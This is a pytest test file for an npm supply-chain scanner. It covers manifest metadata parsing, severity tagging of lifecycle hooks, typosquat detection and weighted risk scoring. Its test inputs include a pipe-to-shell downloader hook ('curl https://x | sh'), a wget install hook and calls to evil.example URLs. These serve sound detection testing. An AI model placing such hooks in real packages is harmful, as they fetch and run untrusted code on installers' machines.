from __future__ import annotations

import json
import random

import pytest

from tarsift import fixed_values as fv
from tarsift.config import ScanConfig, config_from_mapping, load_config, weight_rows
from tarsift.operators import manifests as mf
from tarsift.operators import scoring, typosquat
from tarsift.operators.findings import FINDING_SCHEMA
from tarsift.operators.signatures import append_signature_findings


def manifests(spark, docs: dict):
    rows = [(n, "1", d if isinstance(d, str) else json.dumps(d)) for n, d in docs.items()]
    return spark.createDataFrame(rows, "name string, version string, manifest string")


def by_name(df):
    return {r["name"]: r.asDict(recursive=True) for r in df.collect()}


# --- manifests --------------------------------------------------------------------------


def test_metadata(spark):
    docs = {
        "text": {"author": "  Ann \u0000Lee <a@b> ", "repository": " git://x "},
        "object": {"author": {"username": "u", "web": "w"}, "repository": {"web": "r"}},
        "list": {"author": [{"url": "x"}, {"email": "e@x"}, "Later"]},
        "textlist": {"author": ["First", {"name": "n"}]},
        "maintainers": {"author": "", "maintainers": [{}, {"login": "m", "homepage": "h"}]},
        "publisher": {"publisher": {"username": "p", "url": "pu"}},
        "publishertext": {"publisher": "plain"},
        "named": {"author": "A", "publisher": {"name": "P", "url": "pu", "username": "pn"}},
        "empty": {"description": "   ", "homepage": ""},
        "broken": '{"author": "x"',
        "trailing": '{"author": "x"} y',
    }
    got = by_name(mf.package_metadata(manifests(spark, docs)))
    author = {k: (v["author"], v["author_url"]) for k, v in got.items()}
    assert author["text"] == ("Ann Lee <a@b>", None)
    assert author["object"] == ("u", "w")
    assert author["list"] == ("e@x", None)
    assert author["textlist"] == ("First", None)
    assert author["maintainers"] == ("m", "h")
    assert author["publisher"] == ("p", "pu")
    assert author["publishertext"] == ("plain", None)
    assert author["named"] == ("A", "pu")
    assert author["broken"] == author["trailing"] == author["empty"] == (None, None)
    assert got["text"]["repository"] == "git://x" and got["object"]["repository"] == "r"
    assert got["empty"]["description"] is None and got["empty"]["homepage"] is None
    assert got["publisher"]["npm_username"] == "p" and got["publishertext"]["npm_username"] is None


def hooks_of(spark, commands: dict, **config):
    docs = {f"h{i}": {"scripts": {"postinstall": cmd}} for i, cmd in enumerate(commands)}
    rows = by_name(mf.lifecycle_findings(manifests(spark, docs), ScanConfig(**config)))
    return {cmd: (rows[f"h{i}"]["severity"], rows[f"h{i}"]["tags"]) for i, cmd in enumerate(commands)}


def test_hook_tags(spark):
    want = {
        "curl https://x | sh": ("high", ["shell_spawn", "downloader", "url_in_command"]),
        "node -e 'eval(1)'": ("high", ["node_shellish"]),
        "node bundle.js && webpack": ("high", ["bundle_exec", "benign_build"]),
        "node bundle.js": ("high", ["bundle_exec"]),
        "tsc": ("medium", []),
        "POWERSHELL x": ("high", ["shell_spawn"]),
        "./finish.sh": ("high", ["shell_spawn"]),
        "echo hi": ("medium", []),
    }
    assert hooks_of(spark, list(want)) == want
    strict = hooks_of(spark, ["tsc", "tsc https://x"], strict_benign=True)
    assert strict["tsc"] == ("low", ["benign_build"])
    assert strict["tsc https://x"] == ("medium", ["benign_build", "url_in_command"])


def test_hook_explanations_and_order(spark):
    docs = {"a": {"scripts": {"prepare": "echo x", "install": "wget y", "test": "sh z", "preinstall": ""}}}
    rows = mf.lifecycle_findings(manifests(spark, docs)).collect()
    assert {r["key"]: r["explanation"] for r in rows} == {
        "prepare": "prepare hook with moderate risk: ",
        "install": "High-risk install hook: downloader - may execute arbitrary code during install",
    }


def test_hook_urls_are_single_findings(spark):
    docs = {"a": {"scripts": {"install": "x https://evil.example/1 https://evil.example/2 http://github.com"}}}
    rows = mf.hook_urls(manifests(spark, docs)).collect()
    assert sorted((r["url"], r["rule"]) for r in rows) == [
        ("http://github.com", "url_in_code"),
        ("https://evil.example/1", "url_outside_allowlist"),
        ("https://evil.example/2", "url_outside_allowlist"),
    ]


def test_packaging_hints(spark):
    docs = {
        "null": {"bin": None},
        "object": {"bin": {"x": "y"}},
        "none": {"scripts": {"a": "node-pre-gyp --target  https://x"}},
        "nourl": {"scripts": {"a": "PREBUILD-install --download x"}},
        "unrelated": {"scripts": {"a": "x --download https://x"}},
    }
    df = manifests(spark, docs)
    assert set(by_name(mf.has_bin(df))) == {"null", "object"}
    assert set(by_name(mf.native_fetcher_in_scripts(df))) == {"none", "nourl"}
    assert set(by_name(mf.native_fetcher_custom_url(df))) == {"none"}


# --- names ------------------------------------------------------------------------------


def distance(a: str, b: str) -> int:
    row = list(range(len(b) + 1))
    for i, x in enumerate(a, 1):
        last, row[0] = row[0], i
        for j, y in enumerate(b, 1):
            last, row[j] = row[j], min(row[j] + 1, row[j - 1] + 1, last + (x != y))
    return row[-1]


def bare(name: str) -> str:
    if not name.startswith("@"):
        return name
    return name.split("/")[1] if "/" in name else name[1:]


def model_matches(name: str) -> set:
    out = set()
    for popular in fv.POPULAR_NAMES:
        a, b = bare(name), bare(popular)
        if a == b or name == popular:
            continue
        d, limit = distance(a.lower(), b.lower()), 3 if len(b) > 6 else 2 if len(b) >= 4 else 1
        if d <= limit:
            kind = {-1: "character_omission", 1: "character_insertion", 0: "character_substitution"}
            out.add((popular, d, round((1 - d / max(len(a), len(b))) * 100, 1), kind.get(len(a) - len(b), "edit_distance")))
        elif len(a) == len(b):
            n = sum(x != y and x in fv.CONFUSABLES.get(y, []) for x, y in zip(a.lower(), b.lower()))
            if 1 <= n <= 2:
                out.add((popular, n, 95.0, "unicode_substitution"))
    return out


def name_cases() -> list[str]:
    rng = random.Random(9)
    cases = ["lodahs", "expres", "recat", "lodash", "@evil/core", "@x", "Lodash", "l0dash", "@a/b/c", "1111111", "ехрress", "nex", "", "v", "vu"]
    letters = "abcdefghijklmnopqrstuvwxyz0135-"
    for popular in fv.POPULAR_NAMES * 4:
        name = list(popular)
        for _ in range(rng.randrange(1, 4)):
            i = rng.randrange(len(name) + 1)
            name[i : i + rng.randrange(2)] = rng.choice(letters) if rng.random() < 0.7 else ""
        cases.append("".join(name))
    return sorted(set(cases))


def test_names_match_a_plain_model(spark):
    cases = name_cases()
    names = spark.createDataFrame([(n,) for n in cases], "name string")
    rows = typosquat.detect_typosquats(names, all_matches=True).collect()
    got: dict = {n: set() for n in cases}
    for r in rows:
        got[r["name"]].add((r["target_package"], r["edit_distance"], r["similarity"], r["typosquat_type"]))
    assert got == {n: model_matches(n) for n in cases}
    first = by_name(typosquat.detect_typosquats(names))
    assert first["lodahs"]["target_package"] == "lodash" and "lodash" not in first
    assert first["expres"]["typosquat_type"] == "character_omission"
    assert first["@evil/core"]["target_package"] == "@types/node"


def test_scope_hijacks(spark):
    names = spark.createDataFrame([("@evil/core",), ("@vue/cli",), ("core",)], "name string")
    rows = sorted((r["name"], r["target_package"]) for r in typosquat.scope_hijacks(names).collect())
    assert rows == [
        ("@evil/core", "@angular/core"), ("@evil/core", "@babel/core"), ("@evil/core", "@nuxt/core"),
        ("@vue/cli", "@angular/cli"),
    ]


def test_detector_pairs_match_a_plain_model(spark):
    protected = typosquat.detector_names()
    assert len(protected) == 193
    cases = ["@chatgptclaude_club/claude-code", "lodahs", "expres", "recat", "cpi", "ab", "@types/nod"]
    want = set()
    for name in cases:
        for target in protected:
            a, b = bare(name), bare(target)
            d, limit = distance(a, b), 3 if len(b) > 6 else 2 if len(b) >= 4 else 1
            unequal = sum(x != y for x, y in zip(a, b)) if len(a) == len(b) else 99
            if a != b and (d <= limit or 1 <= unequal <= 2):
                want.add((name, target))
    names = spark.createDataFrame([(n,) for n in cases], "name string")
    rows = typosquat.typosquat_pairs(names).collect()
    assert {(r["suspicious_package"], r["legitimate_package"]) for r in rows} == want
    types = {(r["suspicious_package"], r["legitimate_package"]): r["typosquat_type"] for r in rows}
    assert types[("lodahs", "lodash")] == "character_substitution"
    assert types[("expres", "express")] == "character_omission"


def model_permutations(name: str) -> set:
    scope, base = "", name
    if name.startswith("@"):
        scope, _, rest = name[1:].partition("/")
        scope, base = (scope, rest) if rest else ("", name[1:])
    perms = set()
    for i, ch in enumerate(base):
        perms |= {base[:i] + base[i + 1 :], base[:i] + ch + base[i:]}
        perms |= {base[:i] + look + base[i + 1 :] for look in fv.PERMUTATION_CONFUSABLES.get(ch.lower(), [])}
        if i + 1 < len(base):
            perms.add(base[:i] + base[i + 1] + ch + base[i + 2 :])
    for i in range(len(base) + 1):
        perms |= {base[:i] + ch + base[i:] for ch in fv.INSERTED_CHARACTERS}
    out = set()
    for p in perms:
        if len(p) > 1:
            out |= {f"@{v}/{p}" for v in fv.SCOPE_VARIATIONS}
            out |= {f"@{scope}/{p}"} | {f"@{p}/{v}" for v in fv.SCOPE_VARIATIONS} if scope else {p}
    return {p for p in out if p != name and len(p) > 2}


@pytest.mark.parametrize("name", ["vue", "@vue/cli", "x", "@solo", "Opal"])
def test_permutations_match_a_plain_model(spark, name):
    rows = typosquat.permutations_of(spark.createDataFrame([(name,)], "name string")).collect()
    assert len(rows) == len({r["permutation"] for r in rows})
    assert {r["permutation"] for r in rows} == model_permutations(name)


# --- scores -----------------------------------------------------------------------------

WEIGHTS = {
    "lifecycle_script": 4, "suspicious_pattern": 2, "minified_long_lines": 2, "big_base64_blob": 3,
    "high_entropy_blob": 3, "has_bin": 1, "url_in_code": 5, "net_client_usage": 5,
    "url_outside_allowlist": 6, "env_snoop": 4, "webpack_bundle": 2, "large_js": 2, "ci_evasion": 3,
    "c2_webhook": 6, "writes_outside_pkg": 6, "writes_outside_pkg_candidate": 6,
    "native_binary_present": 3, "wasm_present": 3, "native_fetcher_present": 3,
    "native_fetcher_custom_url": 3, "npmrc_present": 4, "lockfile_present": 1,
    "install_chain_risk": 10, "install_persistence_risk": 10, "phishing_form": 8, "fake_captcha": 6,
    "external_cdn_load": 6, "iframe_embed": 6, "http_server": 6, "port_binding": 6,
    "script_download": 9, "typosquat_detected": 8,
}


def test_weights():
    plain = {rule: w for rule, variant, w in weight_rows(ScanConfig()) if variant == ""}
    assert plain == WEIGHTS


def findings(spark, rows):
    full = [(n, "1", rule, sev, None, details) for n, rule, sev, details in rows]
    return spark.createDataFrame(full, FINDING_SCHEMA)


def test_scores_and_labels(spark):
    rows = [("obf-high", "advanced_obfuscation", "high", '{"confidence":"high"}')]
    rows += [("obf-low", "advanced_obfuscation", "medium", '{"confidence":"low"}')]
    rows += [(f"sig-{s}", "yara_match", s, "{}") for s in ("high", "medium", "low")]
    rows += [("none", rule, "high", "{}") for rule in ("symlink_escape", "no_package_json", "extraction_limit_exceeded", "made_up")]
    rows += [("six", "c2_webhook", "high", "{}")]
    rows += [("seven", "c2_webhook", "high", "{}"), ("seven", "has_bin", "low", "{}")]
    rows += [("eleven", "c2_webhook", "high", "{}"), ("eleven", "url_in_code", None, "{}")]
    rows += [("twelve", "c2_webhook", "high", "{}")] * 2
    df = findings(spark, rows)
    versions = df.select("name", "version").distinct().unionByName(
        spark.createDataFrame([("quiet", "1")], "name string, version string")
    )
    got = {r["name"]: (r["score"], r["label"]) for r in scoring.score_versions(df, versions=versions).collect()}
    assert got == {
        "obf-high": (5, "clean"), "obf-low": (3, "clean"), "sig-high": (7, "suspicious"),
        "sig-medium": (4, "clean"), "sig-low": (2, "clean"), "none": (0, "clean"), "six": (6, "clean"),
        "seven": (7, "suspicious"), "eleven": (11, "suspicious"), "twelve": (12, "malicious"),
        "quiet": (0, "clean"),
    }
    counts = {r["name"]: r for r in scoring.severity_counts(df).collect()}
    assert (counts["eleven"]["high_count"], counts["eleven"]["unknown_count"]) == (1, 1)


def test_score_is_the_sum_of_weights(spark):
    rng = random.Random(4)
    rows = [(f"p{rng.randrange(30)}", rng.choice(list(WEIGHTS)), "high", "{}") for _ in range(500)]
    want: dict = {}
    for name, rule, *_ in rows:
        want[name] = want.get(name, 0) + WEIGHTS[rule]
    got = {r["name"]: r["score"] for r in scoring.score_versions(findings(spark, rows)).collect()}
    assert got == want


def test_cross_rule_findings(spark):
    rows = [
        ("a", "env_snoop", "medium", "{}"), ("a", "writes_outside_pkg", "high", "{}"),
        ("b", "writes_outside_pkg", "high", "{}"), ("c", "large_js", "medium", "{}"),
        ("d", "env_snoop", "medium", "{}"), ("e", "has_bin", "low", "{}"),
    ]
    risky = spark.createDataFrame([(n, "1", "x") for n in "abce"], "name string, version string, lifecycle string")
    got = scoring.cross_rule_findings(findings(spark, rows), risky).collect()
    assert sorted((r["name"], r["rule"]) for r in got) == [
        ("a", "install_chain_risk"), ("a", "install_persistence_risk"),
        ("b", "install_persistence_risk"), ("c", "install_chain_risk"),
    ]


def test_configurations(tmp_path):
    assert load_config(str(tmp_path / "missing.yml")).thresholds == {"suspicious": 5, "malicious": 8}
    off = config_from_mapping({"analysis": {"flag_if_url_not_in_allowlist": False, "allow_domains": ["a"]}})
    assert off.allow_domains == ()
    assert off.thresholds == {"suspicious": 6, "malicious": 12}
    assert config_from_mapping({}).allow_domains == tuple(fv.FALLBACK_ALLOW_DOMAINS)
    cap = lambda value, env: config_from_mapping({"analysis": {"max_extract_bytes": value}}, env).max_extract_bytes
    assert [cap(0, 0), cap(0, 9), cap(5, 9), cap(None, 9), cap("x", 0)] == [None, 9, 5, 9, None]


def test_signature_findings_only_for_known_versions(spark):
    base = findings(spark, [("a", "has_bin", "low", "{}")])
    found = findings(spark, [(n, "yara_match", "high", '{"yara_rule":"R"}') for n in "aaz"])
    versions = base.select("name", "version")
    once = append_signature_findings(base, found, versions)
    twice = append_signature_findings(once, found, versions)
    assert sorted((r["name"], r["rule"]) for r in twice.collect()) == [("a", "has_bin"), ("a", "yara_match")]


def test_no_findings_no_scores(spark):
    assert scoring.score_versions(findings(spark, [])).count() == 0


def test_protected_names_as_a_table(spark):
    """The same matches as names compared with the whole list in their own row."""
    import random

    from tarsift.operators import typosquat

    rng = random.Random(5)
    letters = "abcdeilos015$3-"
    targets = ["".join(rng.choice(letters) for _ in range(rng.randint(1, 14))) for _ in range(60)] + ["@s/lodash", "Express"]
    names = []
    for t in targets:
        for _ in range(6):
            n = list(t)
            for _ in range(rng.randint(0, 4)):
                at = rng.randrange(len(n) + 1)
                n[at : at + rng.randint(0, 1)] = rng.choice(["", rng.choice(letters)])
            names.append("".join(n) or "x")
    names = sorted(set(names + targets + ["@o/" + t for t in targets[:10]]))
    frame = spark.createDataFrame([(n,) for n in names], "name string")
    protected = spark.createDataFrame([(t,) for t in targets], "name string")
    of = lambda df, *cols: sorted(tuple(r) for r in df.select(*cols).distinct().collect())
    columns = ("name", "target_package", "edit_distance", "similarity", "typosquat_type")
    inline = typosquat.detect_typosquats(frame, sorted(set(targets)), all_matches=True)
    assert of(typosquat.typosquats_of_table(frame, protected), *columns) == of(inline, *columns)
    pairs = ("suspicious_package", "legitimate_package", "typosquat_type")
    listed = typosquat.typosquat_pairs(frame, sorted(set(targets)))
    assert of(typosquat.typosquat_pairs_of_table(frame, protected), *pairs) == of(listed, *pairs)
